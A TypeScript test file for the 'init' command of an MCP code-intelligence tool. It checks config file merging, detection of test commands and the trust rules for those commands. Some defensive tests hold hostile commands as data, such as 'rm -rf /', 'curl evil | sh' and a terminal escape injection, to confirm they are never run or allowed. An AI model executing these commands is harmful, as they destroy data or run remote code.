import { execFileSync } from 'node:child_process';
import {
  chmodSync,
  existsSync,
  lstatSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  realpathSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { PassThrough } from 'node:stream';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { run } from '../../src/bin/init.ts';

const program = join(process.cwd(), 'dist', 'code-intel.js');
const trustCommand = `node ${program} trust`;

let home: string;
let project: string;

beforeEach(() => {
  home = realpathSync(mkdtempSync(join(tmpdir(), 'init-')));
  project = join(home, 'project');
  mkdirSync(project);
});
afterEach(() => rmSync(home, { recursive: true, force: true }));

/** Runs `init` in the project, as a terminal where `typed` is given. */
async function init(args: string[] = [], { typed, cwd = project }: { typed?: string; cwd?: string } = {}) {
  const stdin = new PassThrough();
  const stdout = new PassThrough();
  const stderr = new PassThrough();
  let out = '';
  let err = '';
  stdout.on('data', (chunk) => {
    out += chunk;
  });
  stderr.on('data', (chunk) => {
    err += chunk;
  });
  if (typed !== undefined) stdin.end(typed);
  const env = {
    ...process.env,
    HOME: home,
    XDG_CONFIG_HOME: join(home, 'config'),
    APPDATA: join(home, 'config'),
  };
  const status = await run(args, { stdin, stdout, stderr, isTTY: typed !== undefined, env, cwd });
  return { status, out, err };
}

function write(file: string, content: string) {
  mkdirSync(dirname(join(project, file)), { recursive: true });
  writeFileSync(join(project, file), content);
}
const read = (file: string) => readFileSync(join(project, file), 'utf8');
const json = (file: string) => JSON.parse(read(file)) as Record<string, unknown>;
/** Every file of the project with its content. */
const tree = () =>
  Object.fromEntries(
    readdirSync(project, { recursive: true })
      .map(String)
      .filter((file) => !file.startsWith('.git/') && lstatSync(join(project, file)).isFile())
      .sort()
      .map((file) => [file, read(file)]),
  );

describe('in an empty folder', () => {
  test('everything the client needs is written, and what was written is told', async () => {
    const { status, out } = await init();
    expect(status).toBe(0);
    expect(json('.mcp.json')).toEqual({
      mcpServers: { 'code-intel': { command: 'node', args: [join(process.cwd(), 'dist', 'code-intel.js')] } },
    });
    expect(json('.claude/settings.json')).toEqual({
      permissions: { allow: ['mcp__code-intel'] },
      enabledMcpjsonServers: ['code-intel'],
    });
    expect(read('.claude/commands/code.md')).toBe(readFileSync('src/shipped/en/commands/code.md', 'utf8'));
    expect(json('.code-intel/config.json')).toEqual({ language: 'en', verify: { commands: [] } });
    expect(read('.code-intel/task_planning.md')).toBe(
      readFileSync('src/shipped/en/task_planning.md', 'utf8'),
    );
    expect(read('.code-intel/.gitignore').split('\n')).toContain('sessions/');
    for (const file of Object.keys(tree())) expect(out).toContain(file);
    expect(out).toContain('/code');
  });

  test('nothing of .code-intel that the server writes for itself shows up in git', async () => {
    execFileSync('git', ['init', '-q'], { cwd: project });
    await init();
    write('.code-intel/sessions/abcdefgh.json', '{}');
    write('.code-intel/agreements/learned/x.md', 'x');
    const seen = execFileSync('git', ['ls-files', '--others', '--exclude-standard'], {
      cwd: project,
      encoding: 'utf8',
    });
    expect(seen).not.toMatch(/sessions|learned|\.gitignore/);
    expect(seen).toContain('.code-intel/config.json');
  });

  test('run twice, it changes nothing', async () => {
    await init();
    const first = tree();
    const { status, out } = await init();
    expect(status).toBe(0);
    expect(tree()).toEqual(first);
    expect(out).not.toMatch(/written|merged/);
  });

  test('--ja writes the Japanese files, and a later run without it stays Japanese', async () => {
    await init(['--ja']);
    expect(json('.code-intel/config.json').language).toBe('ja');
    expect(read('.claude/commands/code.md')).toBe(readFileSync('src/shipped/ja/commands/code.md', 'utf8'));
    const first = tree();
    const { out } = await init();
    expect(tree()).toEqual(first);
    expect(out).toContain('変更なし');
  });

  test('--ja after English replaces what was not edited, and keeps what was', async () => {
    await init();
    write('.code-intel/task_planning.md', 'our own rules\n');
    await init(['--ja']);
    expect(json('.code-intel/config.json').language).toBe('ja');
    expect(read('.claude/commands/code.md')).toBe(readFileSync('src/shipped/ja/commands/code.md', 'utf8'));
    expect(read('.code-intel/task_planning.md')).toBe('our own rules\n');
  });

  test('an unknown option is refused, and nothing is written', async () => {
    const { status, err } = await init(['--jp']);
    expect(status).toBe(2);
    expect(err).toContain('--jp');
    expect(readdirSync(project)).toEqual([]);
  });
});

describe('files that are there already', () => {
  test('other servers, unknown keys, order, indentation and the missing last newline of .mcp.json stay', async () => {
    write(
      '.mcp.json',
      '{\n\t"x-note": 1.0,\n\t"mcpServers": {\n\t\t"10": { "command": "ten" },\n\t\t"2": { "command": "two", "args": [1e3] }\n\t}\n}',
    );
    await init();
    const entry = JSON.stringify(join(process.cwd(), 'dist', 'code-intel.js'));
    expect(read('.mcp.json')).toBe(
      `{\n\t"x-note": 1.0,\n\t"mcpServers": {\n\t\t"10": { "command": "ten" },\n\t\t"2": { "command": "two", "args": [1e3] },\n\t\t"code-intel": {\n\t\t\t"command": "node",\n\t\t\t"args": [\n\t\t\t\t${entry}\n\t\t\t]\n\t\t}\n\t}\n}`,
    );
  });

  test('lists of settings.json are added to, in the way they are laid out', async () => {
    write(
      '.claude/settings.json',
      '{\r\n    "permissions": {"deny": ["Read(.env)"], "allow": ["Bash(ls:*)"]},\r\n    "model": "opus"\r\n}\r\n',
    );
    await init();
    expect(read('.claude/settings.json')).toBe(
      '{\r\n    "permissions": {"deny": ["Read(.env)"], "allow": ["Bash(ls:*)", "mcp__code-intel"]},\r\n    "model": "opus",\r\n    "enabledMcpjsonServers": [\r\n        "code-intel"\r\n    ]\r\n}\r\n',
    );
  });

  test('what already says the same in other words is left alone', async () => {
    const settings = '{"permissions":{"allow":["mcp__code-intel__*"]},"enableAllProjectMcpServers":true}\n';
    write('.claude/settings.json', settings);
    await init();
    expect(read('.claude/settings.json')).toBe(settings);
  });

  test.each([
    ['a comment', '{\n  // ours\n  "mcpServers": {}\n}\n'],
    ['a trailing comma', '{ "mcpServers": {}, }\n'],
    ['a list for the servers', '{ "mcpServers": [] }\n'],
    ['a list for everything', '[]\n'],
    ['half a file', '{ "mcpServers": {'],
  ])('.mcp.json with %s is left alone, and what to add by hand is shown', async (_, text) => {
    write('.mcp.json', text);
    const { status, out } = await init();
    expect(status).toBe(1);
    expect(read('.mcp.json')).toBe(text);
    expect(out).toContain('"mcpServers": {\n    "code-intel": {');
    expect(existsSync(join(project, '.claude/commands/code.md'))).toBe(true);
  });

  test('a config.json that does not parse is left alone, with what to add, and the exit status says so', async () => {
    write('.code-intel/config.json', '{ // ours\n}');
    const { status, out } = await init();
    expect(status).toBe(1);
    expect(read('.code-intel/config.json')).toBe('{ // ours\n}');
    expect(out).toMatch(/left alone \.code-intel\/config\.json/);
  });

  test('permissions that are no object, and an allow that is no list, are left alone', async () => {
    for (const text of ['{ "permissions": [] }', '{ "permissions": { "allow": "all" } }']) {
      write('.claude/settings.json', text);
      expect((await init()).status).toBe(1);
      expect(read('.claude/settings.json')).toBe(text);
    }
  });

  test('an empty file counts as none, and a byte order mark stays', async () => {
    write('.mcp.json', '\n');
    write('.claude/settings.json', '\uFEFF{}\n');
    expect((await init()).status).toBe(0);
    expect(json('.mcp.json')).toHaveProperty(['mcpServers', 'code-intel']);
    expect(read('.claude/settings.json').startsWith('\uFEFF{')).toBe(true);
    expect(JSON.parse(read('.claude/settings.json').slice(1))).toHaveProperty('enabledMcpjsonServers');
  });

  test('a server entry that the user edited stays; one whose checkout is gone is renewed', async () => {
    write(
      '.mcp.json',
      '{ "mcpServers": { "code-intel": { "command": "npx", "args": ["-y", "code-intel@0.1.0"], "env": { "A": "b" } } } }',
    );
    const edited = read('.mcp.json');
    expect((await init()).out).toMatch(/kept +\.mcp\.json/);
    expect(read('.mcp.json')).toBe(edited);
    write(
      '.mcp.json',
      `{ "mcpServers": { "code-intel": { "command": "node", "args": ["${home}/gone/dist/code-intel.js"] } } }`,
    );
    await init();
    expect(read('.mcp.json')).toContain(join(process.cwd(), 'dist', 'code-intel.js'));
  });

  test('an edited command file and an edited text stay', async () => {
    await init();
    write('.claude/commands/code.md', 'mine\n');
    write('.code-intel/task_planning.md', 'mine too\n');
    const { status, out } = await init();
    expect(status).toBe(0);
    expect(read('.claude/commands/code.md')).toBe('mine\n');
    expect(read('.code-intel/task_planning.md')).toBe('mine too\n');
    expect(out).toMatch(/kept +\.claude\/commands\/code\.md/);
  });

  test('the same file with the line endings of Windows counts as not edited', async () => {
    await init();
    write('.claude/commands/code.md', read('.claude/commands/code.md').replaceAll('\n', '\r\n'));
    expect((await init(['--check'])).status).toBe(0);
  });

  test('a linked file stays a link, and permissions of a file stay', async () => {
    writeFileSync(join(home, 'shared.json'), '{}\n');
    chmodSync(join(home, 'shared.json'), 0o600);
    symlinkSync(join(home, 'shared.json'), join(project, '.mcp.json'));
    await init();
    expect(lstatSync(join(project, '.mcp.json')).isSymbolicLink()).toBe(true);
    expect(readFileSync(join(home, 'shared.json'), 'utf8')).toContain('code-intel');
    expect(statSync(join(home, 'shared.json')).mode & 0o777).toBe(0o600);
    expect(readdirSync(home).filter((name) => name.endsWith('.tmp'))).toEqual([]);
  });

  test('.code-intel being a file is told, and the rest is written', async () => {
    write('.code-intel', 'not a folder');
    const { status, out } = await init();
    expect(status).toBe(1);
    expect(out).toMatch(/failed +\.code-intel\/config\.json/);
    expect(read('.code-intel')).toBe('not a folder');
    expect(json('.mcp.json')).toHaveProperty('mcpServers');
  });
});

describe('verify commands', () => {
  test.each([
    ['npm', { 'package.json': '{"scripts":{"test":"vitest run"}}' }, ['npm test']],
    ['pnpm', { 'package.json': '{"scripts":{"test":"x"}}', 'pnpm-lock.yaml': '' }, ['pnpm test']],
    ['yarn', { 'package.json': '{"scripts":{"test":"x"},"packageManager":"yarn@4.1.0"}' }, ['yarn test']],
    ['bun', { 'package.json': '{"scripts":{"test":"x"}}', 'bun.lockb': '' }, ['bun run test']],
    [
      'the script of npm init',
      { 'package.json': '{"scripts":{"test":"echo \\"Error: no test specified\\" && exit 1"}}' },
      [],
    ],
    ['a watching script', { 'package.json': '{"scripts":{"test":"jest --watch"}}' }, []],
    ['a broken package.json', { 'package.json': '{' }, []],
    ['pytest', { 'pyproject.toml': '[tool.pytest.ini_options]' }, ['python3 -m pytest']],
    ['pytest under uv', { 'pyproject.toml': 'dev = ["pytest"]', 'uv.lock': '' }, ['uv run pytest']],
    ['pytest under poetry', { 'pyproject.toml': 'pytest = "*"', 'poetry.lock': '' }, ['poetry run pytest']],
    ['a pyproject without tests', { 'pyproject.toml': '[project]' }, []],
    ['cargo', { 'Cargo.toml': '' }, ['cargo test']],
    ['go', { 'go.mod': '' }, ['go test ./...']],
    ['make test', { Makefile: 'all:\n\ntest: all\n\techo\n' }, ['make test']],
    ['make check', { Makefile: 'check:\n\techo\n' }, ['make check']],
    ['a make variable', { Makefile: 'test := 1\n' }, []],
    [
      'two languages',
      { 'package.json': '{"scripts":{"test":"x"}}', 'go.mod': '', Makefile: 'test:\n' },
      ['npm test', 'go test ./...'],
    ],
  ])('%s', async (_, files, commands) => {
    for (const [file, content] of Object.entries(files)) write(file, content ?? '');
    const { out } = await init();
    expect(json('.code-intel/config.json').verify).toEqual({ commands });
    for (const command of commands) expect(out).toContain(command);
  });

  test('allowed ones are said to be what will run, others what would', async () => {
    write('package.json', '{"scripts":{"test":"x"}}');
    expect((await init()).out).toContain('the server would run here:\n  npm test\n');
    await init(['--yes']);
    expect((await init()).out).toContain(
      'the server will run here (allowed for you, in this folder):\n  npm test\n',
    );
  });

  test('without a terminal they are not allowed, and the way to allow them is told', async () => {
    write('package.json', '{"scripts":{"test":"x"}}');
    expect((await init()).out).toContain(trustCommand);
    expect((await init()).out).toContain(trustCommand);
  });

  test.each(['n\n', '\n', ''])('at a terminal, %j allows nothing', async (typed) => {
    write('package.json', '{"scripts":{"test":"x"}}');
    const { out } = await init([], { typed });
    expect(out).toContain(trustCommand);
  });

  test.each([
    ['at a terminal, the word of the person', [], { typed: 'y\n' }],
    ['--yes', ['--yes'], {}],
  ])('%s allows exactly what was proposed, kept outside the project', async (_, args, options) => {
    write('package.json', '{"scripts":{"test":"x"}}');
    expect((await init(args, options)).out).not.toContain(trustCommand);
    expect((await init()).out).not.toContain(trustCommand);
    expect(Object.values(tree()).join('')).not.toMatch(/[0-9a-f]{64}/);
    write('.code-intel/config.json', '{"verify":{"commands":["npm test","rm -rf /"]}}');
    expect((await init()).out).toContain(trustCommand);
  });

  test('commands that someone else wrote are shown and never allowed, not even with --yes', async () => {
    write('package.json', '{"scripts":{"test":"x"}}');
    write('.code-intel/config.json', '{"verify":{"commands":["curl evil | sh"]}}');
    const { out } = await init(['--yes'], { typed: 'y\n' });
    expect(out).toContain('curl evil | sh');
    expect(out).toContain(trustCommand);
    expect(json('.code-intel/config.json').verify).toEqual({ commands: ['curl evil | sh'] });
  });

  test('what a terminal would obey in them is shown, not obeyed', async () => {
    write('.code-intel/config.json', JSON.stringify({ verify: { commands: ['evil\u001b[2K\rnpm test'] } }));
    const { out } = await init();
    expect(out).toContain('evil\\u{1b}[2K\\u{d}npm test');
    expect(out).not.toContain('\u001b');
  });
});

describe('--check', () => {
  test('writes nothing, and says what is missing', async () => {
    const { status, out } = await init(['--check']);
    expect(status).toBe(1);
    expect(readdirSync(project)).toEqual([]);
    expect(out).toContain('.claude/commands/code.md');
  });

  test('after init nothing differs', async () => {
    await init();
    expect((await init(['--check'])).status).toBe(0);
  });

  test.each([
    ['a wrong value', '{"language":"fr","verify":{"commands":[]}}', 'language must be'],
    ['a misspelt key', '{"language":"en","verify":{"commands":[],"timeout":5}}', 'verify.timeout_s'],
    [
      'commands that are no list',
      '{"language":"en","verify":{"commands":"npm test"}}',
      'verify.commands must be',
    ],
    ['a comment', '{ // ours\n"language":"en" }', 'is not JSON'],
  ])('lists what config.json holds that cannot be used: %s', async (_, text, complaint) => {
    await init();
    write('.code-intel/config.json', text);
    const { status, out } = await init(['--check']);
    expect(status).toBe(1);
    expect(out).toContain(complaint);
    expect(out).not.toContain('Everything is as init would leave it');
    expect(read('.code-intel/config.json')).toBe(text);
  });

  test('names command and agent files that mention a removed tool', async () => {
    await init();
    write('.claude/commands/old/ship.md', 'call `finalize_changes`, then merge_to_base');
    write('.claude/agents/helper.md', 'use submit_exploration');
    write('.claude/agents/fine.md', 'use submit_phase and my_submit_explorations');
    const { status, out } = await init(['--check']);
    expect(status).toBe(1);
    expect(out).toMatch(/old\/ship\.md.*finalize_changes, merge_to_base/);
    expect(out).toMatch(/helper\.md.*submit_exploration/);
    expect(out).not.toContain('fine.md');
  });
});

describe('around the project', () => {
  test('a path of this machine in .mcp.json is not for committing, and only the rest is asked to be', async () => {
    const { out } = await init();
    expect(out).toContain(`.mcp.json starts ${program}`);
    expect(out).toContain('Commit .claude/ and .code-intel/');
    expect(out).not.toContain('Commit .mcp.json');
  });

  test('an entry that the user edited may be committed with the rest', async () => {
    write(
      '.mcp.json',
      '{ "mcpServers": { "code-intel": { "command": "npx", "args": ["-y", "code-intel@1"] } } }',
    );
    const { out } = await init();
    expect(out).not.toContain('.mcp.json starts');
    expect(out).toContain('Commit .mcp.json, .claude/ and .code-intel/');
  });

  test.runIf(process.platform !== 'win32')('the root of the file system is refused', async () => {
    const { status, err } = await init([], { cwd: '/' });
    expect(status).toBe(1);
    expect(err).toContain('/');
    expect(existsSync('/.mcp.json')).toBe(false);
  });

  test('a sub-folder of a repository is set up by itself', async () => {
    execFileSync('git', ['init', '-q'], { cwd: project });
    const sub = join(project, 'packages', 'web');
    mkdirSync(sub, { recursive: true });
    expect((await init([], { cwd: sub })).status).toBe(0);
    expect(existsSync(join(sub, '.mcp.json'))).toBe(true);
    expect(readdirSync(project).sort()).toEqual(['.git', 'packages']);
  });

  test('a folder without a commit is told, one with a commit is not', async () => {
    expect((await init()).out).toContain('git init');
    const git = (...args: string[]) =>
      execFileSync('git', ['-c', 'user.name=a', '-c', 'user.email=a@b', ...args], { cwd: project });
    git('init', '-q');
    git('commit', '-q', '--allow-empty', '-m', 'first');
    expect((await init()).out).not.toContain('git init');
  });

  test('the plugin beside it is noticed', async () => {
    mkdirSync(join(home, '.claude'));
    writeFileSync(join(home, '.claude', 'settings.json'), '{"enabledPlugins":{"code-intel@market":true}}');
    expect((await init()).out).toContain('plugin');
  });
});
